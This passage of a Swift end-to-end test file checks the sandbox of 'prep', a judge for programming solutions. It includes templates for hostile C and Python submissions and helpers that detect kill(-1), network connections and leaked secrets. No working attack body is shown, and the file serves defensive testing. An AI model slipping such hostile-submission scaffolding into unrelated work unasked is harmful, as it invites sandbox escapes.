            let crash = try world.write("crash.cpp", "#include <bits/stdc++.h>\nusing namespace std;\n"
                + "int f(vector<int>& v, int i) { return v.at(i); }\nint main() { int a, b; cin >> a >> b; vector<int> v; cout << f(v, a) << endl; }\n")
            let solve = try world.prep("solve", "add-two", crash.path, "--workers", "1")
            XCTAssertEqual(solve.status, 1, "\(world): \(solve.stderr)")
            XCTAssertTrue(solve.stdout.contains("std::out_of_range") && solve.stdout.contains("(crash.cpp:3:"),
                          "\(world): the crash names its line: \(solve.stdout)")
        }
    }

    // MARK: - 12. An unreadable source

    /// A source the user cannot read is the user's input error: one line naming the file,
    /// exit 2, and no attempt recorded (it was a "Judge Error … compile cache … permission"
    /// with exit 1 and a recorded attempt). Root reads every file, so only an ordinary uid can
    /// meet this.
    func testUnreadableSourceIsAnInputErrorAndNothingIsRecorded() throws {
        try requireTools("python3")
        try forEachUser { world in
            guard world.who.isUnprivileged || geteuid() != 0 else { throw NotApplicable("root reads every file") }
            XCTAssertEqual(try world.prep("list").status, 0, "\(world)")  // the catalogue's import says so on stderr
            let locked = try world.write("locked.py", Self.pythonAdd)
            chmod(locked.path, 0)
            let result = try world.solve(locked)
            XCTAssertEqual(result.status, 2, "\(world): \(result.stderr)")
            let lines = result.stderr.split(separator: "\n")
            XCTAssertEqual(lines.count, 1, "\(world): \(result.stderr)")
            XCTAssertTrue(result.stderr.contains("locked.py"), "\(world): \(result.stderr)")
            XCTAssertTrue(result.stderr.contains("Permission denied") || result.stderr.contains("permission"),
                          "\(world): \(result.stderr)")
            let history = try world.prep("history", "--json")
            XCTAssertEqual(history.status, 0, "\(world): \(history.stderr)")
            XCTAssertEqual((history.json as? [Any])?.count, 0, "\(world): an attempt was recorded: \(history.stdout)")
        }
    }

    // MARK: - Assertions

    private func assertStoreIsPrivate(_ world: World, after command: String, file: StaticString = #filePath, line: UInt = #line) {
        let store = world.prepHome.appendingPathComponent("prep.sqlite").path
        XCTAssertEqual(World.mode(of: store).map { String($0, radix: 8) }, "600",
                       "\(world): mode of \(store) after \(command)", file: file, line: line)
        for suffix in ["-wal", "-shm", "-journal"] {
            guard let mode = World.mode(of: store + suffix) else { continue }
            XCTAssertEqual(mode & 0o077, 0, "\(world): \(store + suffix) has mode \(String(mode, radix: 8)) after \(command)",
                           file: file, line: line)
        }
    }

    private func assertVerdict(_ result: Result, _ verdict: String, _ world: World, _ solution: URL,
                               file: StaticString = #filePath, line: UInt = #line) {
        XCTAssertEqual(result.status, verdict == "AC" ? 0 : 1,
                       "\(world): \(solution.lastPathComponent): exit status\n\(result.stderr)", file: file, line: line)
        XCTAssertEqual(World.verdict(of: result), verdict,
                       "\(world): \(solution.lastPathComponent)\n\(result.stdout.prefix(1500))\n\(result.stderr.prefix(500))",
                       file: file, line: line)
    }

    private func assertAccepted(_ result: Result, _ world: World, _ solution: URL,
                                file: StaticString = #filePath, line: UInt = #line) {
        assertVerdict(result, "AC", world, solution, file: file, line: line)
    }

    /// The next honest submission is judged as before.
    private func assertHonestSubmissionAccepted(_ world: World, file: StaticString = #filePath, line: UInt = #line) throws {
        let honest = try world.write("honest-after.py", Self.pythonAdd)
        assertAccepted(try world.solve(honest), world, honest, file: file, line: line)
    }

    /// `secret` is in none of the results' outputs, and in no file of PREP_HOME (the store and its
    /// -wal/-shm files, byte by byte).
    private func assertNoTrace(of secret: String, in results: [Result], _ world: World,
                               file: StaticString = #filePath, line: UInt = #line) {
        for (index, result) in results.enumerated() {
            XCTAssertFalse(result.stdout.contains(secret), "\(world): leaked on prep's stdout (run \(index + 1))",
                           file: file, line: line)
            XCTAssertFalse(result.stderr.contains(secret), "\(world): leaked on prep's stderr (run \(index + 1))",
                           file: file, line: line)
        }
        let marker = Data(secret.utf8)
        for (path, state) in World.snapshot(world.prepHome) where state.contents.range(of: marker) != nil {
            XCTFail("\(world): leaked into \(world.prepHome.appendingPathComponent(path).path)", file: file, line: line)
        }
    }

    private func requireTools(_ names: String...) throws {
        for name in names where World.locate(name) == nil {
            throw XCTSkip("needs \(name), which is not installed in \(World.path)")
        }
    }

    /// The command that runs prep in a PID namespace of its own (see the kill(-1) test).
    private func pidNamespaceWrapper() throws -> [String] {
        guard let unshare = World.locate("unshare") else {
            throw XCTSkip("needs util-linux unshare to contain kill(-1) in a PID namespace; not run without it")
        }
        var wrapper = [unshare]
        if geteuid() != 0 { wrapper += ["--user", "--map-current-user"] }
        wrapper += ["--pid", "--fork", "--mount-proc", "--kill-child", "--"]
        let probe = try Running(wrapper + ["/bin/true"], environment: ["PATH": World.path],
                                directory: URL(fileURLWithPath: "/")).finish(within: 30)
        guard probe.status == 0 else {
            throw XCTSkip("cannot make a PID namespace to contain kill(-1) (\(probe.stderr.prefix(200))); not run")
        }
        return wrapper
    }

    /// Runs `body` once per user (see `Who.all`), each in a fresh world. A user for whom the
    /// scenario cannot run throws `NotApplicable`; the test is skipped only if no user could run it.
    private func forEachUser(_ body: (World) throws -> Void) throws {
        var notApplicable: [String] = []
        let users = Who.all
        if geteuid() == 0 && users.count == 1 {
            print("SandboxTests: running as root only (no setpriv in \(World.path), or no free uid from 1000)")
        }
        for who in users {
            let world: World
            do { world = try World(who: who, binary: Self.binary, problems: Self.problems) } catch {
                XCTFail("\(who): cannot set up: \(error)")
                continue
            }
            defer { world.remove() }
            do {
                try body(world)
            } catch let reason as NotApplicable {
                print("SandboxTests: not run \(who): \(reason.description)")
                notApplicable.append(reason.description)
            } catch {
                XCTFail("\(world): \(error)")
            }
        }
        if notApplicable.count == users.count { throw XCTSkip(notApplicable.joined(separator: "; ")) }
    }
}

// MARK: - Hostile programs

/// Solutions to add-two that attack first and answer after.
private enum Hostile {
    /// A C program: `attack`, then read "a b" and print a+b. `helpers` go before `main`.
    static func c(_ attack: String, helpers: String = "") -> String {
        """
        #define _GNU_SOURCE
        #include <arpa/inet.h>
        #include <fcntl.h>
        #include <ftw.h>
        #include <netinet/in.h>
        #include <signal.h>
        #include <stdio.h>
        #include <stdlib.h>
        #include <string.h>
        #include <sys/socket.h>
        #include <sys/stat.h>
        #include <sys/types.h>
        #include <sys/un.h>
        #include <sys/wait.h>
        #include <unistd.h>

        \(helpers)

        int main(void) {
        \(attack)
            fflush(stdout);
            long long a, b;
            if (scanf("%lld %lld", &a, &b) != 2) return 1;
            printf("%lld\\n", a + b);
            return 0;
        }

        """
    }

    /// A Python 3 program: `attack` (top-level code), then read "a b" and print a+b.
    static func python(_ attack: String) -> String {
        """
        import os, socket, sys
        \(attack)
        sys.stdout.flush()
        a, b = map(int, input().split())
        print(a + b)

        """
    }
}

// MARK: - Users

/// Who runs prep.
private enum Who: Sendable, CustomStringConvertible {
    /// The user running the tests (root on CI).
    case currentUser
    /// An ordinary uid (gid the same), reached from root with setpriv.
    case unprivileged(uid: UInt32)

    var isUnprivileged: Bool { if case .unprivileged = self { true } else { false } }

    var description: String {
        switch self {
        case .currentUser: geteuid() == 0 ? "as root" : "as uid \(geteuid())"
        case .unprivileged(let uid): "as uid \(uid)"
        }
    }

    /// The current user, and when that is root (and setpriv is there) an unprivileged uid too.
    static var all: [Who] {
        guard geteuid() == 0, World.locate("setpriv") != nil, let uid = freeID else { return [.currentUser] }
        return [.currentUser, .unprivileged(uid: uid)]
    }

    /// The first uid from 1000 with no account, no group of that number and no process: kill(-1)
    /// and the like, if the sandbox fails, then hit nobody's processes but the test's. (1000 is
    /// often a real account.)
    static let freeID: UInt32? = {
        var owners = Set<UInt32>()
        for entry in (try? FileManager.default.contentsOfDirectory(atPath: "/proc")) ?? [] where Int(entry) != nil {
            var info = stat()
            if stat("/proc/" + entry, &info) == 0 { owners.insert(info.st_uid) }
        }
        return (UInt32(1000)..<60000).first { id in getpwuid(id) == nil && getgrgid(id) == nil && !owners.contains(id) }
    }()
}

/// This user cannot run the scenario (a tool it needs is out of its reach).
private struct NotApplicable: Error, CustomStringConvertible {
    var description: String
    init(_ description: String) { self.description = description }
}

private struct SetupFailure: Error, CustomStringConvertible {
    var description: String
    init(_ description: String) { self.description = description }
}

// MARK: - World

/// One user's little machine for one scenario, under /tmp/prep-sandbox-<uuid> (0755, root's):
/// `home` (HOME, with prep's store in `.local/share/prep` and cache in `.cache/prep`), `tmp`
/// (TMPDIR), `work` (the working folder), `problems` (a copy of the fixtures), and `prep` and
/// `prep-runner` (copies of the binaries, installed together as prep expects: the build folder
/// may be out of an ordinary user's reach). Everything but the binaries belongs to `who`.
private final class World: CustomStringConvertible {
    static let path = "/usr/local/bin:/usr/bin:/bin"

    let who: Who
    let base: URL
    let home: URL
    let tmp: URL
    let work: URL
    let problems: URL
    let binary: URL
    var prepHome: URL { home.appendingPathComponent(".local/share/prep") }
    var cache: URL { home.appendingPathComponent(".cache/prep") }
    var description: String { who.description }

    init(who: Who, binary source: URL, problems fixtures: URL) throws {
        self.who = who
        base = URL(fileURLWithPath: "/tmp").appendingPathComponent("prep-sandbox-\(UUID().uuidString)")
        home = base.appendingPathComponent("home")
        tmp = base.appendingPathComponent("tmp")
        work = base.appendingPathComponent("work")
        problems = base.appendingPathComponent("problems")
        binary = base.appendingPathComponent("prep")
        let files = FileManager.default
        for folder in [home, tmp, work] {
            try files.createDirectory(at: folder, withIntermediateDirectories: true)
        }
        try files.copyItem(at: fixtures, to: problems)
        try files.copyItem(at: source, to: binary)
        let runner = base.appendingPathComponent("prep-runner")
        try files.copyItem(at: source.deletingLastPathComponent().appendingPathComponent("prep-runner"), to: runner)
        for folder in [base, home, tmp, work] { chmod(folder.path, 0o755) }
        for program in [binary, runner] { chmod(program.path, 0o755) }
        for folder in [home, tmp, work, problems] { give(folder) }
    }

    func remove() {
        try? FileManager.default.removeItem(at: base)
    }

    /// The environment prep runs with (nothing inherited).
    var environment: [String: String] {
        ["HOME": home.path, "TMPDIR": tmp.path, "PREP_HOME": prepHome.path, "PREP_CACHE": cache.path,
         "PREP_PROBLEMS": problems.path, "NO_COLOR": "1", "PATH": Self.path]
    }

    // MARK: Running as `who`

    /// Starts `command` as `who`, in `work`; `outer` (run as the current user) wraps it.
    func launch(_ command: [String], env extra: [String: String] = [:], outer: [String] = []) throws -> Running {
        var full = outer
        if case .unprivileged(let uid) = who {
            guard let setpriv = Self.locate("setpriv") else { throw SetupFailure("setpriv is missing") }
            full += [setpriv, "--reuid", "\(uid)", "--regid", "\(uid)", "--clear-groups", "--inh-caps=-all", "--"]
        }
        full += command
        return try Running(full, environment: environment.merging(extra) { $1 }, directory: work)
    }

    /// Runs `command` as `who` to completion.
    func run(_ command: [String], env: [String: String] = [:]) throws -> EndToEndTestCase.Result {
        try Self.outcome(of: try launch(command, env: env), command)
    }

    /// How long one command may take (a solve takes a few seconds) before it counts as hung.
    static let patience = 60.0

    /// The result of `running`; a command that hangs is killed and ends this user's scenario.
    static func outcome(of running: Running, _ command: [String]) throws -> EndToEndTestCase.Result {
        if let result = running.result(within: patience) { return result }
        let result = running.finish(within: 0)
        let name = command.map { ($0 as NSString).lastPathComponent }.prefix(4).joined(separator: " ")
        throw SetupFailure("`\(name) …` did not finish within \(Int(patience)) s and was killed\n\(result.stdout)\n\(result.stderr)")
    }

    /// Runs prep as `who`.
    func prep(_ arguments: String..., env: [String: String] = [:]) throws -> EndToEndTestCase.Result {
        try run([binary.path] + arguments, env: env)
    }

    /// `prep solve <problem> <solution> --json` as `who`.
    func solve(_ solution: URL, problem: String = "add-two", env: [String: String] = [:]) throws -> EndToEndTestCase.Result {
        try run([binary.path, "solve", problem, solution.path, "--json"], env: env)
    }

    static func verdict(of result: EndToEndTestCase.Result) -> String? {
        (result.json as? [String: Any])?["verdict"] as? String
    }

    // MARK: Files

    /// Writes a solution into `work`.
    @discardableResult
    func write(_ name: String, _ text: String) throws -> URL {
        let url = work.appendingPathComponent(name)
        try writeFile(url, text, mode: 0o644)
        return url
    }

    /// Writes `text` to `url` (creating its folders with `folderMode`), owned by `who`.
    func writeFile(_ url: URL, _ text: String, mode: mode_t, folderMode: mode_t = 0o755) throws {
        let folder = url.deletingLastPathComponent()
        if !FileManager.default.fileExists(atPath: folder.path) {
            try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
            chmod(folder.path, folderMode)
            give(folder)
        }
        unlink(url.path)
        try Data(text.utf8).write(to: url)
        chmod(url.path, mode)
        give(url)
    }

    /// Hands `url` and everything under it to `who`.
    func give(_ url: URL) {
        guard case .unprivileged(let uid) = who else { return }
        lchown(url.path, uid, uid)
        guard let walker = FileManager.default.enumerator(atPath: url.path) else { return }
        for case let relative as String in walker { lchown(url.appendingPathComponent(relative).path, uid, uid) }
    }

    /// Entries prep left in its TMPDIR (scratch folders, captures: any name starting "prep").
    func scratchLeftovers() -> [String] {
        ((try? FileManager.default.contentsOfDirectory(atPath: tmp.path)) ?? []).filter { $0.hasPrefix("prep") }.sorted()
    }

    struct FileState: Equatable {
        var mode: mode_t
        var contents: Data
    }

    /// Every regular file under `folder` (relative path → mode and bytes).
    static func snapshot(_ folder: URL) -> [String: FileState] {
        var states: [String: FileState] = [:]
        guard let walker = FileManager.default.enumerator(atPath: folder.path) else { return states }
        for case let relative as String in walker {
            let path = folder.appendingPathComponent(relative).path
            var info = stat()
            guard lstat(path, &info) == 0, (info.st_mode & S_IFMT) == S_IFREG else { continue }
            states[relative] = FileState(mode: info.st_mode & 0o7777, contents: readAll(path))
        }
        return states
    }

    static func mode(of path: String) -> mode_t? {
        var info = stat()
        return lstat(path, &info) == 0 ? info.st_mode & 0o7777 : nil
    }

    static func exists(_ path: String) -> Bool { mode(of: path) != nil }

    /// The whole file, read with plain system calls (works for /proc files too).
    static func readAll(_ path: String) -> Data {
        let fd = open(path, O_RDONLY | O_CLOEXEC)
        guard fd >= 0 else { return Data() }
        defer { close(fd) }
        var data = Data()
        var buffer = [UInt8](repeating: 0, count: 65536)
        while true {
            let count = read(fd, &buffer, buffer.count)
            if count <= 0 { break }
            data.append(contentsOf: buffer[0..<count])
        }
        return data
    }

    /// The package's tests as (input, answer) absolute paths.
    static func testFiles(of package: URL) throws -> [(input: String, answer: String)] {
        let data = package.appendingPathComponent("data")
        guard let walker = FileManager.default.enumerator(atPath: data.path) else { throw SetupFailure("no \(data.path)") }
        var tests: [(input: String, answer: String)] = []
        for case let relative as String in walker where relative.hasSuffix(".in") {
            let input = data.appendingPathComponent(relative).path
            tests.append((input, String(input.dropLast(3)) + ".ans"))
        }
        guard !tests.isEmpty else { throw SetupFailure("no tests in \(data.path)") }
        return tests.sorted { $0.input < $1.input }
    }

    static func newSecret() -> String { "prep-secret-\(UUID().uuidString)" }

    // MARK: Processes and tools

    /// The pids of processes whose command line contains `sleep` then `marker`.
    static func processes(carrying marker: String) -> [Int32] {
        let needle = Data("sleep\u{0}\(marker)".utf8)
        return ((try? FileManager.default.contentsOfDirectory(atPath: "/proc")) ?? []).compactMap { entry in
            guard let pid = Int32(entry), readAll("/proc/\(entry)/cmdline").range(of: needle) != nil else { return nil }
            return pid
        }
    }

    static func signalName(_ signal: Int32) -> String {
        [SIGINT: "SIGINT", SIGTERM: "SIGTERM", SIGHUP: "SIGHUP", SIGKILL: "SIGKILL"][signal] ?? "signal \(signal)"
    }

    /// `name` in the minimal PATH, or nil.
    static func locate(_ name: String) -> String? {
        path.split(separator: ":").map { "\($0)/\(name)" }.first { FileManager.default.isExecutableFile(atPath: $0) }
    }

    /// The bin folder of the Rust toolchain the test runner's own rustc (often a rustup proxy)
    /// uses, so that prep finds a real rustc without rustup's HOME; nil without Rust.
    static func rustToolchainBin() -> String? {
        var environment = ProcessInfo.processInfo.environment
        environment["PATH"] = (environment["PATH"].map { $0 + ":" } ?? "") + path
        guard let running = try? Running(["/usr/bin/env", "rustc", "--print", "sysroot"], environment: environment,
                                         directory: URL(fileURLWithPath: "/")) else { return nil }
        let result = running.finish(within: 60)
        let sysroot = result.stdout.trimmingCharacters(in: .whitespacesAndNewlines)
        guard result.status == 0, !sysroot.isEmpty,
              FileManager.default.isExecutableFile(atPath: sysroot + "/bin/rustc") else { return nil }
        return sysroot + "/bin"
    }
}

// MARK: - Running

/// A started process whose outputs are collected in the background.
/// `@unchecked`: `Process` is not Sendable; it is configured before it starts and only waited
/// on and signalled after, and the outputs are handed over as `Box` describes.
private final class Running: @unchecked Sendable {
    let process = Process()
    private let collected = EndToEndTestCase.Box()
    private let drained = DispatchGroup()
    private let exited = DispatchSemaphore(value: 0)

    /// Starts `command` (its first element an absolute path) with exactly `environment`.
    init(_ command: [String], environment: [String: String], directory: URL) throws {
        process.executableURL = URL(fileURLWithPath: command[0])
        process.arguments = Array(command.dropFirst())
        process.environment = environment
        process.currentDirectoryURL = directory
        let out = Pipe(), err = Pipe(), input = Pipe()
        process.standardOutput = out
        process.standardError = err
        process.standardInput = input
        let exited = exited
        process.terminationHandler = { _ in exited.signal() }
        try process.run()
        try input.fileHandleForWriting.close()
        let collected = collected
        drained.enter()
        DispatchQueue.global().async { [drained] in
            collected.out = out.fileHandleForReading.readDataToEndOfFile()
            drained.leave()
        }
        drained.enter()
        DispatchQueue.global().async { [drained] in
            collected.err = err.fileHandleForReading.readDataToEndOfFile()
            drained.leave()
        }
    }

    var pid: Int32 { process.processIdentifier }
    var isRunning: Bool { process.isRunning }

    /// The result once the process exits within `seconds`, else nil. A death by signal N is
    /// reported as status 128 + N, as a shell would.
    func result(within seconds: Double) -> EndToEndTestCase.Result? {
        guard exited.wait(timeout: .now() + seconds) == .success else { return nil }
        exited.signal()  // later calls see it too
        // A descendant that escaped with prep's pipes could keep them open: do not wait forever.
        _ = drained.wait(timeout: .now() + 10)
        let status = process.terminationReason == .uncaughtSignal ? 128 + process.terminationStatus : process.terminationStatus
        return EndToEndTestCase.Result(status: status, stdout: String(decoding: collected.out, as: UTF8.self),
                                       stderr: String(decoding: collected.err, as: UTF8.self))
    }

    /// The result within `seconds`, or after a SIGKILL once they are up (status 128 + 9).
    func finish(within seconds: Double) -> EndToEndTestCase.Result {
        if let result = result(within: seconds) { return result }
        kill(pid, SIGKILL)
        var result = self.result(within: 30)
            ?? EndToEndTestCase.Result(status: -1, stdout: "", stderr: "did not exit after SIGKILL")
        result.stderr += "\n(killed after \(Int(seconds)) s)"
        return result
    }
}

// MARK: - Listeners

/// A listening socket owned by the test; `drain` accepts (and counts) whatever connected.
private final class Listener {
    let fd: Int32

    private init(fd: Int32) throws {
        self.fd = fd
        guard fd >= 0 else { throw SetupFailure("socket: errno \(errno)") }
        _ = fcntl(fd, F_SETFL, fcntl(fd, F_GETFL) | O_NONBLOCK)
    }

    deinit { close(fd) }

    static func unix(at path: String) throws -> Listener {
        let listener = try Listener(fd: socket(AF_UNIX, Int32(SOCK_STREAM.rawValue), 0))
        var address = sockaddr_un()
        address.sun_family = sa_family_t(AF_UNIX)
        let bytes = Array(path.utf8)
        withUnsafeMutableBytes(of: &address.sun_path) { raw in
            for (index, byte) in bytes.enumerated() where index < raw.count - 1 { raw[index] = byte }
        }
        let bound = withUnsafePointer(to: &address) {
            $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { bind(listener.fd, $0, socklen_t(MemoryLayout<sockaddr_un>.size)) }
        }
        guard bound == 0, listen(listener.fd, 64) == 0 else { throw SetupFailure("cannot listen at \(path): errno \(errno)") }
        return listener
    }

    /// A listener on 127.0.0.1 and the port it got.
    static func tcpLoopback() throws -> (Listener, UInt16) {
        let listener = try Listener(fd: socket(AF_INET, Int32(SOCK_STREAM.rawValue), 0))
        var address = sockaddr_in()
        address.sin_family = sa_family_t(AF_INET)
        address.sin_port = 0
        address.sin_addr.s_addr = inet_addr("127.0.0.1")
        var length = socklen_t(MemoryLayout<sockaddr_in>.size)
        let bound = withUnsafeMutablePointer(to: &address) { pointer in
            pointer.withMemoryRebound(to: sockaddr.self, capacity: 1) { generic in
                bind(listener.fd, generic, length) == 0 && listen(listener.fd, 64) == 0
                    && getsockname(listener.fd, generic, &length) == 0
            }
        }
        guard bound else { throw SetupFailure("cannot listen on 127.0.0.1: errno \(errno)") }
        return (listener, UInt16(bigEndian: address.sin_port))
    }

    /// How many connections reached the listener since the last call.
    func drain() -> Int {
        var count = 0
        while true {
            let connection = accept(fd, nil, nil)
            if connection < 0 { return count }
            count += 1
            close(connection)
        }
    }
}
